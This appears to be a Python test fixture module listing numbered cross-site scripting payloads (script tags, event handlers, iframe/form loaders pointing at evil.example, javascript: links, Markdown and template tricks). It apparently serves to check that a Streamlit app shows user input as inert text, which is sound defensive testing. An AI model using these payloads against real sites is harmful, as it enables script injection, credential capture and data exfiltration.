"""What an attacker writes into names and addresses in the hope that it runs in somebody's browser.

A script that ran would call ``ran``, whatever loads something would ask evil.example; each payload
carries its number, so that one sees on the screen that it was shown, as text.
"""

from __future__ import annotations

EVIL = "http://evil.example"

MARKUP = (
    "<script>ran(1)</script>",
    "<ScRiPt >ran(1)</sCrIpT >",
    "<script src=//evil.example/1></script>",
    "<scr<script>ipt>ran(1)</scr</script>ipt>",
    "</title><script>ran(1)</script>",
    "</style><script>ran(1)</script>",
    "</textarea><script>ran(1)</script>",
    "--><script>ran(1)</script><!--",
    "]]><script>ran(1)</script>",
    "<script type=module>import '//evil.example/1'</script>",
    "<svg><script>ran(1)</script></svg>",
    "<math><mtext><script>ran(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=ran(1)>'>",
    "<template><script>ran(1)</script></template>",
)
HANDLERS = (
    "<img src=x onerror=ran(1)>",
    "<img src=x:x onerror='ran(1)'//",
    "<img/src=x/onerror=ran(1)>",
    "<svg onload=ran(1)>",
    "<svg/onload=ran(1)//",
    "<body onload=ran(1)>",
    "<input autofocus onfocus=ran(1)>",
    "<select autofocus onfocus=ran(1)>",
    "<details open ontoggle=ran(1)>",
    "<video><source onerror=ran(1)>",
    "<audio src=x onerror=ran(1)>",
    "<marquee onstart=ran(1)>",
    "<p style='animation:x' onanimationstart=ran(1)>",
    '" onmouseover="ran(1)" autofocus onfocus="ran(1)',
    "' onmouseover='ran(1)' autofocus onfocus='ran(1)",
    "`onload=ran(1)`",
)
LOADING = (
    "<iframe srcdoc='<script>parent.ran(1)</script>'>",
    "<iframe src='javascript:parent.ran(1)'>",
    "<iframe src=//evil.example/1>",
    "<object data=//evil.example/1>",
    "<embed src=//evil.example/1>",
    "<img src=//evil.example/1>",
    "<img srcset='//evil.example/1 1x'>",
    "<link rel=stylesheet href=//evil.example/1>",
    "<style>@import '//evil.example/1';*{background:url(//evil.example/2)}</style>",
    "<p style='background:url(//evil.example/1)'>x",
    "<video poster=//evil.example/1>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/1'>",
    "<meta name=referrer content=unsafe-url>",
    "<form action=//evil.example/1><input name=haslo><button>OK",
    "<button formaction=//evil.example/1>OK</button>",
)
LINKS = (
    "<a href='javascript:ran(1)'>x</a>",
    "<a href='java&#9;script:ran(1)'>x</a>",
    "<a href='data:text/html,<script>ran(1)</script>'>x</a>",
    "[x](javascript:ran(1))",
    "[x](//evil.example/1)",
    "![x](http://evil.example/1.png)",
    '![x](http://evil.example/1.png "onerror=ran(1)")',
    "<http://evil.example/1>",
    "http://evil.example/1",
    "[x]: http://evil.example/1",
)
SYNTAX = (
    ":red[x] :material/home: :streamlit: :blue-background[x]",
    "$\\href{javascript:ran(1)}{x}$",
    "$$\\includegraphics{http://evil.example/1.png}$$",
    "$\\htmlData{a=b}{x}$",
    "**x** _x_ ~~x~~ `x` # x",
    "| a | b |\n|---|---|\n| <script>ran(1)</script> | x |",
    "{{constructor.constructor('ran(1)')()}}",
    "${ran(1)} #{ran(1)} <%= ran(1) %>",
    "%3Cscript%3Eran(1)%3C/script%3E",
    "&lt;script&gt;ran(1)&lt;/script&gt;",
    "\uff1cscript\uff1eran(1)\uff1c/script\uff1e",
    "\u202e<script>ran(1)</script>\u202c",
    "<\u200bscript>ran(1)</script>",
    "\u2028<script>ran(1)</script>\u2029",
    "%c0%bcscript%c0%beran(1)",
    "javascript:ran(1)",
)


def mark(number: int) -> str:
    """A word that shows on the screen which payload was shown."""
    return f"zz{number:02}zz"


PAYLOADS = tuple(
    f"{mark(number)} {text}"
    for number, text in enumerate((*MARKUP, *HANDLERS, *LOADING, *LINKS, *SYNTAX))
)

MARKDOWN = tuple(
    number
    for number, payload in enumerate(PAYLOADS)
    if payload.split(" ", 1)[1].startswith(("[x](", "![x](http://evil.example/1.png)", ":", "$\\h"))
)
"""Those that mean something in Streamlit's messages, which are Markdown."""
